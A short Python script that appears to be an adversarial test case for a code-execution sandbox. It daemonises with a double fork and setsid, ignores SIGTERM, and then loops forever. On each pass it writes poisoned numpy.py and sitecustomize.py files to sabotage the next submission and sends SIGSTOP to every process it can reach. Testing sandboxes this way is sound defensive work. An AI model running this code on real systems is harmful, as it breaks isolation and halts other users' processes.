"""Leave a process behind that lives on, in a session of its own, and tampers with the next submission."""
# hangs

import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        for fd in range(64):
            try:
                os.close(fd)
            except OSError:
                pass
        while True:
            for name in ("numpy.py", "left-by-attack", "sitecustomize.py"):
                try:
                    with open(name, "w") as file:
                        file.write("raise SystemExit('from the submission before')")
                except OSError:
                    pass
            try:
                os.kill(-1, signal.SIGSTOP)
            except OSError:
                pass
            time.sleep(0.01)
    os._exit(0)
